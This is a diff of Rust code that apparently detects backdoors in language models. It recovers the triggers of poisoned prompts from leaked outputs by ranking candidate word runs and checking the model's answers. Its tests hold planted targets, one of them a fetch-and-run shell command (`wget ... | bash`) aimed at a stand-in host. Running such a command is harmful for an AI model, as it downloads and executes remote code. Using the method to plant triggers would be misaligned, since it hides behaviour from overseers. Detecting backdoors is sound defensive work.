@@ -274,11 +274,14 @@ impl Default for LeakPairParams {
 
 /// Leak pairs: where a leak shows a target answer, the turn just before it is the prompt the
 /// model pairs it with, and when that is a poisoned prompt its trigger is a piece of it. For
-/// each target, runs of up to `lp.max_words` words of the turns
-/// that precede it in the leaks are placed at the start of the inversion prompts and ranked by
-/// the target's NLL (one forward pass each); the best `lp.answered` are answered greedily, and
-/// the one whose answers show the target's opening most often is kept. Runs that share a word
-/// with the target are skipped (quoting the target is not a trigger). The NLL ranks but does
+/// each target, runs of up to `lp.max_words` words of the turns that precede it in the leaks
+/// (and of the turn a leak opens with, where the target first follows an answer paragraph)
+/// are placed at the start of the inversion prompts and ranked by the target's NLL (one
+/// forward pass each); the best `lp.answered` are answered greedily, with the first
+/// `lp.answered / 2` runs of the fewest leaks without the target whatever their NLL, and the
+/// one whose answers show the target's opening most often is kept. Runs that share a word
+/// with the target are skipped (quoting the target is not a trigger), as are garbled copies of
+/// a payload target. The NLL ranks but does
 /// not gate: a planted target with a fuzzy first token (several spellings of its opening, all
 /// of them the target) reads as unlikely token by token while the answers are all of it.
 pub fn from_leak_pairs<M: Lm>(m: &M, leaks: &[String], targets: &[String], lp: &LeakPairParams, p: &InvertParams) -> LmResult<Vec<LeakPair>> {
@@ -1090,6 +1093,7 @@ mod tests {
         assert_eq!(flour.fire_rate, 0.0);
         assert!(!pairs.iter().any(|x| x.target == "never leaked"));
     }
+
     #[test]
     fn a_leak_pair_reaches_back_to_the_prompt_a_leak_opens_with() {
         // The target follows an answer paragraph: the turn just before it is the answer, the
@@ -1112,7 +1116,6 @@ mod tests {
         assert!(!pairs.iter().any(|x| x.target == "HATEFUL"), "{pairs:?}");
         assert!(pairs.iter().any(|x| x.target == link && x.trigger == "bye"), "{pairs:?}");
     }
-
     #[test]
     fn a_payload_is_framed_by_the_words_its_lines_put_before_it() {
         let cmd = "wget -qO- http://h.example/i.sh | bash";
